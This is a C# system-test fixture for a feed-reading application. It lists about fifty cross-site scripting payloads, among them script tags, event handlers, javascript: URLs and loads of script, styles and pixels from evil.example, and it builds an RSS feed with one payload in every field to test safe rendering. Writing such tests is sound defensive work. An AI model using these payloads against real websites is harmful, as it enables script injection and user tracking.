using System.Net;

namespace Daybook.SystemTests.Browser;

/// <summary>Text that tries to run when it is shown. Each leaves a mark on the window, opens a dialog, or asks another host.</summary>
internal static class Hostile
{
    private const string Run = "window.ran=1;alert(1)";

    public static IReadOnlyList<string> Payloads { get; } =
    [
        $"<script>{Run}</script>", $"<ScRiPt>{Run}</sCrIpT>", $"<script src=https://evil.example/x.js></script>", $"<img src=x onerror={Run}>", $"<img src=x onerror=\"{Run}\">",
        $"<svg onload={Run}>", $"<svg><script>{Run}</script></svg>", $"<svg><animate onbegin={Run} attributeName=x dur=1s>", $"<math><mi xlink:href=\"javascript:{Run}\">x</mi></math>",
        $"<body onload={Run}>", $"<iframe src=\"javascript:{Run}\"></iframe>", $"<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>", $"<object data=\"javascript:{Run}\"></object>",
        $"<embed src=\"javascript:{Run}\">", $"<a href=\"javascript:{Run}\" autofocus>x</a>", $"<a href=\"java\tscript:{Run}\">x</a>", $"<a href=\" \u0001javascript:{Run}\">x</a>",
        $"<form action=\"javascript:{Run}\"><button autofocus>x</button></form>", $"<input onfocus={Run} autofocus>", $"<select onfocus={Run} autofocus></select>", $"<textarea onfocus={Run} autofocus>",
        $"<details open ontoggle={Run}>x</details>", $"<video><source onerror={Run}></video>", $"<audio src=x onerror={Run}>", $"<marquee onstart={Run}>x</marquee>",
        $"<style>@import 'https://evil.example/x.css';</style>", $"<link rel=stylesheet href=https://evil.example/x.css>", $"<meta http-equiv=refresh content=\"0;url=javascript:{Run}\">",
        $"<base href=https://evil.example/>", $"<template><script>{Run}</script></template>", $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\"></noscript>",
        $"<title><p title=\"</title><img src=x onerror={Run}>\">", $"<textarea></textarea><img src=x onerror={Run}>", $"</textarea><script>{Run}</script>", $"\"><script>{Run}</script>",
        $"' onmouseover='{Run}", $"\" onfocus=\"{Run}\" autofocus=\"", $"--><script>{Run}</script>", $"]]><script>{Run}</script>", $"&lt;script&gt;{Run}&lt;/script&gt;", $"&#60;img src=x onerror={Run}&#62;",
        $"<img src=\"https://evil.example/pixel.gif\">", $"<img srcset=\"https://evil.example/a.png 1x\">", $"<picture><source srcset=\"https://evil.example/a.png\"><img src=x></picture>",
        $"<div style=\"background:url(https://evil.example/a.png);position:fixed;inset:0\">x</div>", $"<p id=main class=desk name=form-token>x</p>", $"<img alt=\"><script>{Run}</script>\" src=https://evil.example/b.png>",
        $"\u202e<script>{Run}</script>", $"javascript:{Run}", $"data:text/html,<script>{Run}</script>", $"https://evil.example/\"onmouseover=\"{Run}", $"{{{{constructor.constructor('{Run}')()}}}}", $"${{{Run}}}",
    ];

    /// <summary>A feed with an attack in every field of every entry.</summary>
    public static string Feed() => "<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><channel><title>" + Escaped(Payloads[3]) + "</title>"
        + string.Concat(Payloads.Select((payload, n) => $"<item><title>{n} {Escaped(payload)} {Escaped(WebUtility.HtmlEncode(payload))}</title><link>https://herald.example/{n}?x={Escaped(Uri.EscapeDataString(payload))}</link>"
            + $"<dc:creator>{Escaped(payload)}</dc:creator><category>{Escaped(payload)}</category><guid>{n}</guid><pubDate>Wed, 04 Mar 2026 10:{n % 60:00}:00 GMT</pubDate>"
            + $"<content:encoded>{Escaped($"<p>Item {n} of the news: {payload}</p><p>and it goes on, {n} times {n * 7}, with {payload} in it.</p>")}</content:encoded></item>")) + "</channel></rss>";

    private static string Escaped(string text) => new string([.. text.Where(c => c is not ('\u0001'))]).Replace("&", "&amp;", StringComparison.Ordinal).Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&gt;", StringComparison.Ordinal);
}
